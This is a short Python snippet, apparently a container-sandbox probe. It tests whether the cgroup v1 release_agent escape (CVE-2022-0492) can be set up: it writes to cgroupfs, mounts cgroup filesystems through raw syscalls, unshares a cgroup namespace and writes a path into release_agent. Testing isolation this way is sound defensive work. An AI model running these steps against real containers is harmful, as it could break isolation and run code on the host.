# E03: cgroupfs and the v1 release_agent escape (CVE-2022-0492).
attempt("cgroupfs", lambda: write("/sys/fs/cgroup/cgroup.procs", str(os.getpid())))
attempt("sys", lambda: os.listdir("/sys"))
os.makedirs("/tmp/c", exist_ok=True)
OUT["mount cgroup v1"] = sc(165, b"c", b"/tmp/c", b"cgroup", 0, b"rdma")
OUT["mount cgroup2"] = sc(165, b"c", b"/tmp/c", b"cgroup2", 0, 0)
OUT["unshare cgroupns"] = sc(272, 0x02000000)
attempt("release_agent", lambda: os.write(os.open("/tmp/c/release_agent", os.O_WRONLY), b"/tmp/x"))
done()
